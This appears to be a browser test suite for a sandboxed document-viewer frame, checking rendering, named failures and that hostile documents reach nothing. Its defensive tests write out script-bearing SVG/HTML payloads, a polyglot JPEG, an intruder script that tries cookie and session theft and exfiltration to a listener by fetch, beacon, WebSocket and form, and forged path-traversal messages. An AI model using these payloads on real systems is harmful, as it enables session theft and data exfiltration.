"""The document frame: what it shows, and what nothing in it can reach (docs/threat-model.md, promise 9).

The real page's own line to the frame (frame-link.js) hands over the bytes; the real relay serves the frame.
"""

from __future__ import annotations

import base64
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from playwright.sync_api import BrowserContext, Dialog, Frame, Page

from tests.browser.kit import Guard, LiveServer
from tests.fixtures import documents
from tests.lying_relay.proxy import LyingRelay

_OPEN_LINK = """async () => {
  const { FrameLink } = await import('/static/js/ui/reviewer/document/frame-link.js');
  const place = document.createElement('div');
  place.id = 'desk';
  document.body.replaceChildren(place);
  window.said = [];
  window.link = new FrameLink(place, { title: 'Document', onMessage: (message) => window.said.push(message) });
  await window.link.port;
  Object.assign(window.link.element.style, { inlineSize: '900px', blockSize: '700px' });
}"""
_OPEN = """async ([text, ticket, page, turn]) => {
  const bytes = Uint8Array.from(atob(text), (character) => character.charCodeAt(0)).buffer;
  await window.link.send({ type: 'open', ticket, bytes, page, turn });
}"""
_ANSWERED = """([ticket, types]) =>
  window.said.find((message) => message.ticket === ticket && types.includes(message.type)) ?? null"""
_DARK_HALF = """() => {
  const source = document.querySelector('#sheet canvas') ?? document.querySelector('#sheet img');
  const canvas = new OffscreenCanvas(20, 20);
  const pen = canvas.getContext('2d');
  pen.drawImage(source, 0, 0, 20, 20);
  const at = (x, y) => pen.getImageData(x, y, 1, 1).data[0] < 100;
  return { start: at(4, 10), end: at(15, 10) };
}"""


@dataclass
class Viewer:
    """The frame, as the page around it uses it."""

    page: Page
    tickets: int = 0

    @property
    def frame(self) -> Frame:
        """The sandboxed frame itself."""
        return next(frame for frame in self.page.frames if frame.url.endswith("/viewer/"))

    def open(self, data: bytes, *, page: int = 1, turn: int = 0) -> dict[str, Any]:
        """Hand over a document; what became of it: the message `drawn` or `failed`."""
        self.tickets += 1
        self.page.evaluate(_OPEN, [base64.b64encode(data).decode(), self.tickets, page, turn])
        return self.answer("drawn", "failed")

    def answer(self, *types: str) -> dict[str, Any]:
        """The first message of these types about the newest document."""
        found = self.page.wait_for_function(_ANSWERED, arg=[self.tickets, list(types)], timeout=60_000)
        return dict(found.json_value())

    def opened(self) -> dict[str, Any]:
        """What the frame said about the newest document as a whole."""
        return self.answer("opened")

    def said(self) -> list[dict[str, Any]]:
        """Every message that was let through."""
        return list(self.page.evaluate("() => window.said"))


@pytest.fixture
def page(reviewer: BrowserContext) -> Page:
    return reviewer.new_page()


@pytest.fixture
def viewer(page: Page, reviewer_guard: Guard) -> Viewer:
    page.goto("/privacy")
    page.evaluate(_OPEN_LINK)
    return Viewer(page)


@dataclass
class Listener:
    """Somebody else's server, which nothing may ever reach."""

    url: str
    heard: list[str] = field(default_factory=list)


@pytest.fixture
def listener() -> Iterator[Listener]:
    heard: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002  The base class names it so.
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield Listener(f"http://localhost:{server.server_address[1]}", heard)
    server.shutdown()
    server.server_close()


# What it shows


def test_a_pdf_is_drawn_page_by_page(viewer: Viewer) -> None:
    drawn = viewer.open(documents.text_pdf(3), page=2)
    assert (drawn["type"], drawn["page"]) == ("drawn", 2)
    assert viewer.opened() == {"type": "opened", "ticket": 1, "kind": "pdf", "pages": 3, "cut": False}
    assert viewer.frame.locator(".text-layer").inner_text().strip() == "Page 2"


def test_an_image_is_drawn_turned(viewer: Viewer) -> None:
    assert viewer.open(documents.jpeg((400, 600)), turn=90)["type"] == "drawn"
    box = viewer.frame.locator("#sheet").bounding_box()
    assert box is not None
    assert box["width"] > box["height"]


@pytest.mark.parametrize("coding", ["DCTDecode", "CCITTFaxDecode", "JBIG2Decode", "JPXDecode"])
def test_a_scan_in_every_coding_of_hospitals_is_drawn(viewer: Viewer, coding: str) -> None:
    assert viewer.open(documents.scanned_pdf(coding))["type"] == "drawn"
    halves = viewer.frame.evaluate(_DARK_HALF)
    assert halves["start"] != halves["end"], f"{coding}: the page is not half black, half white: {halves}"


def test_words_in_a_foreign_character_map_are_found(viewer: Viewer) -> None:
    assert viewer.open(documents.japanese_pdf())["type"] == "drawn"
    assert "診断書" in viewer.frame.locator(".text-layer").inner_text()


def test_a_pdf_that_may_only_not_be_edited_is_drawn(viewer: Viewer) -> None:
    assert viewer.open(documents.restricted_pdf())["type"] == "drawn"


# What can't be shown, and says so


_SVG = b'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>top.scriptRan = true</script></svg>'
_HTML = b"<!doctype html><script>top.scriptRan = true; fetch('/api/session')</script>"
_BAD: dict[str, tuple[Callable[[], bytes], str]] = {
    "nothing": (lambda: b"", "file-empty"),
    "an SVG that poses as an image": (lambda: _SVG, "unknown-type"),
    "an HTML page that poses as an image": (lambda: _HTML, "unknown-type"),
    "an HTML page behind a JPEG's first bytes": (lambda: b"\xff\xd8\xff\xe0" + _HTML, "image-damaged"),
    "an image that claims absurd dimensions": (
        lambda: documents.png_that_claims(900_000, 900_000),
        "image-too-large",
    ),
    "half an image": (lambda: documents.jpeg((400, 600))[:40], "image-damaged"),
    "a locked PDF": (documents.locked_pdf, "pdf-locked"),
    "a PDF that is only its first line": (lambda: b"%PDF-1.7\n" + b"\x00" * 500, "pdf-damaged"),
    "a DICOM file": (lambda: bytes(128) + b"DICM", "unknown-type"),
}


@pytest.mark.parametrize("name", _BAD)
def test_what_cannot_be_shown_has_a_name(viewer: Viewer, name: str) -> None:
    make, problem = _BAD[name]
    assert viewer.open(make()) == {"type": "failed", "ticket": 1, "problem": problem}
    assert viewer.frame.locator("#sheet").is_hidden()
    assert viewer.page.evaluate("() => window.scriptRan") is None


def test_after_a_document_that_failed_the_next_one_is_drawn(viewer: Viewer) -> None:
    viewer.open(documents.locked_pdf())
    assert viewer.open(documents.text_pdf(1))["type"] == "drawn"


# What nothing in it can reach


def test_a_pdf_with_scripts_links_forms_and_addresses_reaches_nobody(
    viewer: Viewer, listener: Listener, recorder: LyingRelay
) -> None:
    dialogs: list[str] = []

    def dismiss(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    viewer.page.on("dialog", dismiss)
    drawn = viewer.open(documents.hostile_pdf(listener.url))
    assert drawn["type"] == "drawn"
    before = len(recorder.exchanges)
    # Its link covers the whole page: pressing it does nothing.
    viewer.page.mouse.click(400, 300)
    viewer.open(documents.hostile_pdf(listener.url), page=2)
    assert listener.heard == []
    assert dialogs == []
    assert viewer.page.evaluate("() => window.scriptRan") is None
    assert viewer.frame.locator("a[href], input, form, object, embed, iframe").count() == 0
    assert viewer.page.url.endswith("/privacy")
    asked = [exchange.path for exchange in recorder.exchanges[before:]]
    assert [path for path in asked if not _is_public_code(path)] == []


# Somebody has broken into the frame and runs code there: the worst that a hostile document can do.
_REACH = """async (address) => {
  const tried = {};
  const attempt = async (name, act) => {
    try { tried[name] = String(await act()); } catch (error) { tried[name] = `refused: ${error.name}`; }
  };
  await attempt('cookie', () => document.cookie);
  await attempt('localStorage', () => localStorage.length);
  await attempt('indexedDB', () => new Promise((resolve, reject) => {
    const request = indexedDB.open('second-look');
    request.onsuccess = () => resolve('open'); request.onerror = () => reject(request.error);
  }));
  await attempt('caches', () => caches.keys());
  await attempt('page', () => parent.document.body.innerHTML);
  await attempt('page address', () => parent.location.href);
  await attempt('session', () => fetch('/api/session').then((answer) => answer.text()));
  await attempt('vendor', () => fetch('/static/vendor/vendored.json').then((answer) => answer.text()));
  await attempt('foreign', () => fetch(address + '/fetch', { mode: 'no-cors' }));
  await attempt('beacon', () => navigator.sendBeacon(address + '/beacon', 'x') || Promise.reject(new Error('no')));
  await attempt('image', () => new Promise((resolve, reject) => {
    const image = new Image(); image.onload = () => resolve('loaded'); image.onerror = () => reject(new Error('no'));
    image.src = address + '/image';
  }));
  await attempt('socket', () => new Promise((resolve, reject) => {
    const socket = new WebSocket(address.replace('http', 'ws'));
    socket.onopen = () => resolve('open'); socket.onerror = () => reject(new Error('no'));
  }));
  await attempt('window', () => window.open(address + '/window')?.closed ?? Promise.reject(new Error('no')));
  await attempt('top', () => { top.location = address + '/top'; return 'gone'; });
  await attempt('form', () => {
    const form = document.createElement('form'); form.action = address + '/form'; form.method = 'post';
    document.body.append(form); form.submit(); return new Promise((resolve) => setTimeout(resolve, 300, 'sent'));
  });
  await attempt('code from text', () => new Function('return 1')());
  await attempt('passkey', () => navigator.credentials.get({ publicKey: { challenge: new Uint8Array(32) } }));
  return tried;
}"""
# These don't tell what became of them; the listener does.
_HARMLESS = {"form": "sent", "beacon": "true"}


def test_code_that_broke_into_the_frame_reaches_nothing(
    page: Page, recorder: LyingRelay, server: LiveServer, listener: Listener
) -> None:
    page.goto("/privacy")
    page.evaluate(_OPEN_LINK)
    viewer = Viewer(page)
    tried = viewer.frame.evaluate(_REACH, listener.url)
    reached = {
        name: result
        for name, result in tried.items()
        if not result.startswith("refused") and _HARMLESS.get(name) != result
    }
    assert reached == {}
    assert listener.heard == []
    assert page.url.endswith("/privacy")
    from_frame = [
        exchange.path
        for exchange in recorder.exchanges
        if exchange.request_header("Origin") == "null" and not _is_public_code(exchange.path)
    ]
    assert from_frame == [], "the frame asked the relay for more than the app's own public files"


def _is_public_code(path: str) -> bool:
    return path.startswith(("/static/", "/viewer/", "/csp-report"))


def test_what_a_frame_loads_carries_no_cookie(viewer: Viewer, recorder: LyingRelay) -> None:
    viewer.page.context.add_cookies([{"name": "second_look_session", "value": "x", "url": recorder.url}])
    viewer.page.reload()
    before = len(recorder.exchanges)
    viewer.page.evaluate(_OPEN_LINK)
    Viewer(viewer.page).open(documents.text_pdf(1))
    loaded = [each for each in recorder.exchanges[before:] if each.request_header("Origin") == "null"]
    assert loaded, "the frame's scripts come from the relay"
    assert [each.path for each in loaded if each.request_header("Cookie")] == []


_LIES = """() => {
  const send = (message) => window.stolen.postMessage(message);
  send('drawn');
  send({ type: 'sign-out' });
  send({ type: '__proto__' });
  send({ type: 'opened', ticket: 1, kind: 'html', pages: 1, cut: false });
  send({ type: 'opened', ticket: 1, kind: 'pdf', pages: 1e9, cut: false });
  send({ type: 'failed', ticket: 1, problem: '<b>call 0900</b>' });
  send({ type: 'wanted', command: 'download' });
  send({ type: 'asset-wanted', name: '../../api/session' });
  send({ type: 'asset-wanted', name: 'https://example.org/x' });
  send({ type: 'thumbnail', ticket: 1, page: 1, width: 480, height: 480, pixels: new ArrayBuffer(4) });
  send({ type: 'thumbnail', ticket: 1, page: 1, width: 1e6, height: 1e6, pixels: new ArrayBuffer(4) });
  send({ type: 'wanted', command: 'next' });
}"""


def test_messages_of_a_broken_into_frame_are_dropped(
    page: Page, recorder: LyingRelay, server: LiveServer
) -> None:
    # The intruder keeps the port that the frame was handed.
    page.add_init_script(
        "addEventListener('message', (event) => { if (event.ports[0]) window.stolen = event.ports[0]; });"
    )
    page.goto("/privacy")
    page.evaluate(_OPEN_LINK)
    viewer = Viewer(page)
    before = len(recorder.exchanges)
    viewer.frame.evaluate(_LIES)
    page.wait_for_function("() => window.said.length > 0")
    assert viewer.said() == [{"type": "wanted", "command": "next"}]
    assert [each.path for each in recorder.exchanges[before:]] == []


_ASK_FOR_A_LINE = """() => new Promise((resolve) => {
  addEventListener('message', () => resolve('a line'));
  parent.postMessage({ type: 'ready' }, '*');
  setTimeout(resolve, 500, 'nobody answers');
})"""


def test_a_frame_that_went_elsewhere_is_not_heard(viewer: Viewer) -> None:
    with viewer.page.expect_event("framenavigated", lambda frame: frame.url.endswith("?again")):
        viewer.frame.evaluate("() => { location.href = '/viewer/?again'; }")
    frame = next(frame for frame in viewer.page.frames if frame.url.endswith("?again"))
    assert frame.evaluate(_ASK_FOR_A_LINE) == "nobody answers"
